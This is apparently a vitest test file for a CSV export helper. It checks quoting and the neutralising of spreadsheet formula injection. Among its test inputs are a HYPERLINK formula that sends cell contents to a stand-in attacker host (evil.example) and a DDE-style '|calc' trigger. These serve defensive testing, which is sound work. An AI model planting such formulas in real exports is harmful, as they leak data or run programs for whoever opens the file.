import { expect, test } from 'vitest'
import { csv } from './csv.ts'

const one = (value: string | number | boolean | null) => csv([{ title: 'V', of: () => value }], [{}]).split('\r\n')[1]

test('a line per row, texts in quotes, quotes doubled, line breaks kept inside', () => {
  const columns = [
    { title: 'NAME', of: ({ name }: { name: string }) => name },
    { title: 'COUNT', of: () => -3, right: true },
  ]
  expect(csv(columns, [{ name: 'a "b",\nc' }])).toBe('"NAME","COUNT"\r\n"a ""b"",\nc",-3\r\n')
})

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '%1',
  '|calc',
])('%j is no formula any more', (text) => {
  expect(one(text)).toBe(`"'${text.replaceAll('"', '""')}"`.split('\r\n')[0])
})

test('ordinary texts, numbers and empty places stay as they are', () => {
  expect(['Ann Lee', "O'Hara & Sons", '2026-11-15 08:00', 'a=b', ''].map(one)).toEqual([
    '"Ann Lee"',
    '"O\'Hara & Sons"',
    '"2026-11-15 08:00"',
    '"a=b"',
    '""',
  ])
  expect([one(-5), one(true), one(null)]).toEqual(['-5', 'true', ''])
})
